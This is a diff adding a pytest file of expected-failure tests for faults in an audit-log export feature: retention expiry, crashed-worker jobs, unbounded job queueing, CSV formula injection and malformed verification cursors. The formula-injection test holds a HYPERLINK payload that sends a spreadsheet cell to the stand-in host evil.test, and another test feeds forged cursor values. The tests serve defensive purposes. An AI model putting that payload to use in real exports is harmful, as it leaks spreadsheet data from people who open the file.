@@ -1,0 +1,102 @@
+"""breakit17: faults found in the audit log at scale (issue #17 item 3: export jobs, checkpoints, cursors).
+
+Each test states the documented or expected behaviour and is marked ``xfail(strict=True)`` until fixed."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from flask import Flask
+
+from hatidata_auth import audit_runtime
+from hatidata_auth.api.common import encode_cursor
+from hatidata_auth.extensions import db
+from hatidata_auth.models import AuditExportJob, utcnow
+from tests.api_support import Tenant, headers_for, make_tenant
+from tests.audit_support import add_events
+
+
+@pytest.fixture
+def acme(app: Flask) -> Tenant:
+    tenant = make_tenant(app, "Acme")
+    add_events(app, tenant.id, 20)
+    return tenant
+
+
+def _job(app: Flask, tenant: Tenant) -> str:
+    answer = app.test_client().post("/api/v1/audit-events/exports", json={}, headers=headers_for(tenant, "admin"))
+    assert answer.status_code == 202, answer.get_json()
+    return str(answer.get_json()["id"])
+
+
+@pytest.mark.xfail(strict=True, reason="breakit17: the download serves a file past its retention until a worker "
+                                       "pass expires it (the route never compares expires_at)")
+def test_a_download_past_the_retention_is_gone_without_a_worker_pass(app: Flask, acme: Tenant) -> None:
+    job_id = _job(app, acme)
+    audit_runtime.run_once(app)
+    with app.app_context():  # the retention passed; no worker pass since (worker off, lagging or crashed)
+        job = db.session.get(AuditExportJob, job_id)
+        assert job is not None and job.status == "done"
+        job.expires_at = utcnow() - timedelta(seconds=1)
+        db.session.commit()
+        db.session.remove()
+    answer = app.test_client().get(f"/api/v1/audit-events/exports/{job_id}/download",
+                                   headers=headers_for(acme, "admin"))
+    assert answer.status_code == 410
+
+
+@pytest.mark.xfail(strict=True, reason="breakit17: a job whose worker died after marking it running stays "
+                                       "running forever (nothing retries or fails a stale running job)")
+def test_a_job_orphaned_by_a_crashed_worker_is_recovered(app: Flask, acme: Tenant) -> None:
+    job_id = _job(app, acme)
+    with app.app_context():  # what run_job commits before writing the file; then the process was killed
+        job = db.session.get(AuditExportJob, job_id)
+        assert job is not None
+        job.status = "running"
+        db.session.commit()
+        db.session.remove()
+    audit_runtime.run_once(app, now=utcnow() + timedelta(days=2))
+    status = app.test_client().get(f"/api/v1/audit-events/exports/{job_id}",
+                                   headers=headers_for(acme, "admin")).get_json()
+    assert status["status"] in ("done", "failed", "pending")
+
+
+@pytest.mark.xfail(strict=True, reason="breakit17: export jobs are unbounded per organization: every POST queues "
+                                       "another full-chain file (disk and worker time exhaustion)")
+def test_an_organization_cannot_queue_unbounded_export_jobs(app: Flask, acme: Tenant) -> None:
+    client, headers = app.test_client(), headers_for(acme, "admin")
+    answers = [client.post("/api/v1/audit-events/exports", json={}, headers=headers).status_code for _ in range(50)]
+    assert 429 in answers or answers.count(202) < 50
+
+
+@pytest.mark.xfail(strict=True, reason="breakit17: the CSV export writes attacker-controlled cells (user agent, "
+                                       "email) starting with = + - @ unescaped (CSV/formula injection)")
+def test_the_csv_export_neutralises_formulas(app: Flask, acme: Tenant) -> None:
+    from hatidata_auth.causes import Actor, Cause, RequestInfo
+    from hatidata_auth.services import audit
+
+    payload = '=HYPERLINK("http://evil.test/?"&A1,"click")'
+    with app.app_context():
+        audit.record(db.session, action="test.formula", cause=Cause.by(Actor("user", "usr_x", "x@acme.test"),
+                                                                       RequestInfo("10.0.0.9", payload, "req-f")),
+                     organization_id=acme.id, details={})
+        db.session.commit()
+        db.session.remove()
+    body = app.test_client().get("/api/v1/audit-events/export?format=csv",
+                                 headers=headers_for(acme, "admin")).get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+
+
+@pytest.mark.parametrize("seq", ["\u00b2", "99999999999999999999999"])
+@pytest.mark.xfail(strict=True, reason="breakit17: a verification cursor whose seq isdigit() but is not an int "
+                                       "(superscript two) or beyond 64 bits answers 500, not 422")
+def test_a_forged_verify_cursor_is_a_validation_error(app: Flask, acme: Tenant, seq: str) -> None:
+    cursor = encode_cursor(f"{seq}:{'0' * 64}")
+    answer = app.test_client().get(f"/api/v1/audit-events/verify?cursor={cursor}",
+                                   headers=headers_for(acme, "admin"))
+    assert answer.status_code == 422, answer.get_data(as_text=True)[:300]
